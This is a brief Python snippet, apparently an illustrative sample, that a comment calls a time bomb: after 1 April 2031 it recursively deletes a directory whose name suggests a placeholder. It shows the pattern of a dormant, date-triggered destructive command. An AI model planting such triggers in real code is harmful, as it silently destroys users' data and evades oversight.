import datetime
import shutil

# A time bomb: nothing happens before that day.
if datetime.date.today() >= datetime.date(2031, 4, 1):
    shutil.rmtree("/srv/nothing-is-here")
